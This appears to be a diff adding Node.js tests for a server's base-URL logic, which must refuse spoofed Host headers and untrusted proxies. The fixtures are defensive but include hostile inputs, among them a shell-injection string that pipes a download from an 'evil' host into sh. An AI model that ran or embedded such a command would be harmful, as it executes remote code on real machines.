@@ -1,0 +1,62 @@
+import assert from 'node:assert/strict'
+import { hostname } from 'node:os'
+import { describe, test } from 'node:test'
+import { readSettings } from '../config/settings.ts'
+import { baseUrls } from './base-url.ts'
+
+describe('baseUrls()', () => {
+  const told = (
+    host: string,
+    { env = {}, remoteAddress = '192.0.2.7', localAddress = '10.1.2.3', protocol = 'http' } = {},
+  ) =>
+    baseUrls({ settings: readSettings(env), origin: () => 'http://own:4280' })({
+      host,
+      protocol: protocol as 'http',
+      raw: { socket: { localAddress, remoteAddress } },
+    })
+
+  test('repeats addresses and names of this machine, with the port that was asked', () => {
+    for (const host of [
+      'localhost:4280',
+      '127.0.0.1:9000',
+      '10.1.2.3:4280',
+      '10.1.2.3',
+      `${hostname()}:4280`,
+      '[::1]:1',
+    ])
+      assert.equal(told(host), `http://${host.toLowerCase()}`)
+    assert.equal(told('[fe80::1]:4280', { localAddress: 'fe80::1' }), 'http://[fe80::1]:4280')
+    assert.equal(told('10.1.2.3:4280', { localAddress: '::ffff:10.1.2.3' }), 'http://10.1.2.3:4280')
+  })
+
+  test('repeats nothing else that a request calls the server', () => {
+    for (const host of [
+      'evil.example',
+      'evil.example:4280',
+      'localhost.evil.example',
+      'localhost@evil.example',
+      'localhost/evil',
+      'localhost:80 evil',
+      "localhost';curl evil|sh;'",
+      '127.0.0.1.evil.example',
+      '10.1.2.4:4280',
+      '2130706433',
+      '',
+      'x'.repeat(9000),
+    ])
+      assert.ok(['http://own:4280', 'http://127.0.0.1'].includes(told(host)), host)
+  })
+
+  test('believes a proxy that is trusted, and no other', () => {
+    const env = { CARREL_TRUSTED_PROXIES: '192.0.2.0/24' }
+    assert.equal(told('carrel.example.com', { env, protocol: 'https' }), 'https://carrel.example.com')
+    assert.equal(told('carrel.example.com', { env, remoteAddress: '198.51.100.1' }), 'http://own:4280')
+    assert.equal(told('a b', { env }), 'http://own:4280')
+  })
+
+  test('tells CARREL_PUBLIC_URL where it is set', () => {
+    const env = { CARREL_PUBLIC_URL: 'https://carrel.example.com' }
+    for (const host of ['localhost:4280', 'evil.example'])
+      assert.equal(told(host, { env }), 'https://carrel.example.com')
+  })
+})
